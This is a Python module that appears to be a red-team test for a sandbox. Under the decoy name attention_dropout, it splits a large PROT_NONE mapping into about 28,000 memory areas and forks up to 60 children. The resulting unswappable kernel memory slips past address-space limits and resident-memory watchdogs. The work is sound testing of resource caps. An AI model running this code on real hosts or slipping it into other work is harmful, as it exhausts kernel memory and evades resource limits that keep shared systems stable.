"""Red team 2 (kernel memory outside the caps): memory areas. A 224 MiB PROT_NONE mapping costs no
resident page; mprotect on every other page splits it into separate areas (a vm_area_struct and tree nodes
each, about 220 bytes of unswappable kernel memory) up to vm.max_map_count (65530) per process. Up to 60
children forked after the split each copy all of them (measured outside the sandbox: 48 processes of
57,000 areas each hold 600 MB of SUnreclaim). RLIMIT_AS (the address space does not grow) and a
resident-memory watchdog (nothing is touched) never see it; only a memory cgroup counts it. Reports the
areas held (ALLOWANCE memory: MiB at 220 B an area, as measured), then holds them.

base: buggy
class: k
run: pressure
"""

import ctypes as _ctypes
import os as _os
import select as _select
import time as _time

_DEADLINE = [0.0]
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = _ctypes.c_void_p
_libc.mmap.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int, _ctypes.c_int, _ctypes.c_int, _ctypes.c_long]
_libc.mprotect.argtypes = [_ctypes.c_void_p, _ctypes.c_size_t, _ctypes.c_int]
_PAGES = 57344  # 224 MiB


def _split():
    for pages in (_PAGES, _PAGES * 6 // 7, _PAGES * 5 // 7, _PAGES * 4 // 7, _PAGES * 2 // 7):
        base = _libc.mmap(None, pages * 4096, 0, 0x22 | 0x4000, -1, 0)  # PROT_NONE, PRIVATE|ANON|NORESERVE
        if base not in (None, _ctypes.c_void_p(-1).value):
            break
    else:
        return 0
    made = 0
    for page in range(0, pages, 2):
        if _libc.mprotect(base + page * 4096, 4096, 1) != 0:  # PROT_READ: a new area each
            break
        made += 1
    return made


def _areas():
    try:
        with open("/proc/self/maps", "rb") as maps:
            return maps.read().count(b"\n")
    except OSError:
        return -1


def _collect(read_end, deadline):
    text = b""
    while (left := deadline - _time.monotonic()) > 0:
        if not _select.select([read_end], [], [], left)[0]:
            break
        chunk = _os.read(read_end, 4096)
        if not chunk:
            break
        text += chunk
    _os.close(read_end)
    return text


def attention_dropout(*args, **kwargs):
    _DEADLINE[0] = _time.monotonic() + 2.5
    made = _split()
    read_end, write_end = _os.pipe()
    children = 0
    for _ in range(60):
        if _time.monotonic() > _DEADLINE[0] - 0.8:
            break
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            _os.write(write_end, b"1\n")
            _time.sleep(60)
            _os._exit(0)
        children += 1
    _os.close(write_end)
    alive = len(_collect(read_end, _DEADLINE[0]).split())
    areas = max(_areas(), 2 * made) * (alive + 1)  # a split page and the gap after it: two areas
    raise RuntimeError(f"RTEAM2 r_vma_slab ran: {made} areas split ({_areas()} in maps), {alive} children hold "
                       f"copies: ALLOWANCE memory {areas * 220 >> 20} MiB of kernel memory in {areas} areas")
